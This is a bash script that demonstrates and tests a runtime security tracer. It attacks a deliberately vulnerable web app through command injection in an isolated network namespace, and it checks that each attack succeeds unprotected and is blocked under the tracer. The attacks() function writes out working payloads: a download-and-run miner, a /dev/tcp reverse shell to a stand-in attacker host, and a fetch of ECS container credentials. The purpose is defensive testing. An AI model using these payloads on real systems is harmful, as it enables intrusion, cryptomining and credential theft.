#!/usr/bin/env bash
# Usage: run.sh [BIN]    BIN holds tracer and sidekick; "make attack" builds them.
#
# Attacks a vulnerable web application three ways, first as it is, then under the
# tracer. AWS's address for credentials, the attacker and Slack are played by
# outside.py, in a network namespace of its own: nothing leaves the machine, and
# nothing is left behind. With SAVE=DIR the messages to Slack are kept there, as JSON.
set -euo pipefail

fail() {
	echo "attack: $*" >&2
	exit 1
}

bin=$(realpath "${1:-bin}")
here=$(dirname "$(realpath "$0")")
for program in "$bin/tracer" "$bin/sidekick" unshare ip curl getent /usr/bin/python3 /usr/bin/bash; do
	command -v "$program" >/dev/null || fail "$program is missing; \"make attack\" installs and builds what is needed"
done
if [ -z "${ATTACK_INSIDE-}" ]; then
	user=()
	[ "$(id -u)" = 0 ] || user=(--user --map-root-user)
	ATTACK_INSIDE=1 exec unshare "${user[@]}" --net "$here/run.sh" "$bin"
fi

red='' green='' bold='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR-}" ]; then
	red=$'\e[1;31m' green=$'\e[1;32m' bold=$'\e[1m' plain=$'\e[0m'
fi
title() { printf '\n%s%s%s\n' "$bold" "$*" "$plain"; }

tmp=$(mktemp -d /tmp/sidearmor-attack.XXXXXX) # below /tmp, where the dropped program may not run
started=()
cleanup() {
	trap - EXIT
	trap '' INT TERM HUP
	local pid
	for pid in "${started[@]}"; do
		kill "$pid" 2>/dev/null || true
		wait "$pid" 2>/dev/null || true
	done
	rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
trap 'exit 129' HUP

# eventually tries a command again until it succeeds, at most for so many seconds.
eventually() {
	local end=$((SECONDS + $1))
	shift
	until "$@"; do
		[ "$SECONDS" -lt "$end" ] || return 1
		sleep 0.1
	done
}
ready() { [ -s "$1" ]; }

# attack sends the visitor's input and shows what came of it: the pattern is what the
# attacker hopes to see.
attack() {
	local name=$1 hope=$2 input=$3 answer
	rm -f "$tmp/stolen"
	answer=$(curl --silent --fail --noproxy '*' --max-time 100 --get --data-urlencode "host=localhost; $input" "http://127.0.0.1:$port/")
	[ "$name" != 'reverse shell' ] || { eventually 5 ready "$tmp/stolen" && answer=$(cat "$tmp/stolen") || true; }
	answer=$(grep -v localhost <<<"$answer" | tr -d '\r' | grep -E "$hope|denied|connect" | tail -n 1 | cut -c1-110)
	if grep -qE "$hope" <<<"$answer"; then
		outcomes+=(succeeded)
		printf '  %-18s %ssucceeded%s  %s\n' "$name" "$red" "$plain" "$answer"
	else
		outcomes+=(blocked)
		printf '  %-18s %sblocked%s    %s\n' "$name" "$green" "$plain" "$answer"
	fi
}

attacks() {
	outcomes=()
	attack 'dropped program' '^mining as' "curl -s http://203.0.113.9/miner -o $tmp/.cache && chmod +x $tmp/.cache && $tmp/.cache"
	attack 'reverse shell' '^shell of ' 'bash -c "exec bash <>/dev/tcp/203.0.113.9/4444 >&0"'
	attack 'stolen credentials' 'ASIAEXAMPLE' 'curl -sS http://169.254.170.2/v2/credentials/4f1c0a6e'
}

# app starts the application, behind the words that are given.
app() {
	: >"$tmp/app"
	(cd / && exec "$@" /usr/bin/python3 "$here/webapp.py" "$port") >"$tmp/app" 2>"$tmp/app.log" &
	started=($! "${started[@]}")
	eventually 60 ready "$tmp/app" || fail "the application does not start:"$'\n'"$(cat "$tmp/app.log")"
}

ip link set lo up
ip address add 169.254.170.2/32 dev lo # ECS gives a task its credentials there
ip address add 203.0.113.9/32 dev lo   # the attacker
/usr/bin/python3 "$here/outside.py" "$tmp" >"$tmp/outside" &
started+=($!)
eventually 60 ready "$tmp/outside" || fail "outside.py does not start"

title "The application as it is"
port=8001
app env
attacks
[ "${outcomes[*]}" = "succeeded succeeded succeeded" ] || fail "the attacks should succeed here"

title "The same under the tracer, with policies.yaml"
QUEUE_DIR=$tmp/queue LISTENADDRESS=127.0.0.1 LISTENPORT=2801 DIGEST_WINDOW=0 SLACK_WEBHOOKURL=http://127.0.0.1:8888/services/T0/B0/x \
	STDOUT_ENABLED=true STDOUT_FORMAT=text,slack STDOUT_LOGS=false "$bin/sidekick" >"$tmp/alerts" 2>"$tmp/sidekick.log" &
started=($! "${started[@]}")
serving() { curl --silent --fail --noproxy '*' --max-time 5 -o /dev/null http://127.0.0.1:2801/ping; }
eventually 60 serving || fail "the sidekick does not start:"$'\n'"$(cat "$tmp/sidekick.log")"
port=8002
app env POD_NAME=shop-7d5b9c6f4-x2x8k POD_NAMESPACE=shop CLUSTER_NAME=prod OWNER_KIND=Deployment OWNER_NAME=shop CONTAINER_NAME=web \
	CONTAINER_IMAGE=shop:1.4 NODE_NAME=fargate-ip-10-0-1-2 SIDEKICK_URL=http://127.0.0.1:2801/ "$bin/tracer" run --policies "$here/policies.yaml" --
attacks
[ "${outcomes[*]}" = "blocked blocked blocked" ] || fail "an attack was not blocked"

title "What Slack shows"
messages() { [ "$(find "$tmp/slack" -name '*.json' | wc -l)" -ge 3 ] && [ "$(grep -c '^ .*Blocked: ' "$tmp/alerts")" -ge 3 ]; }
eventually 60 messages || fail "three messages should come, not:"$'\n'"$(ls "$tmp/slack"; cat "$tmp/sidekick.log")"
grep '^ ' "$tmp/alerts" || true
if [ -n "${SAVE-}" ]; then
	mkdir -p "$SAVE"
	cp "$tmp"/slack/*.json "$SAVE"
fi
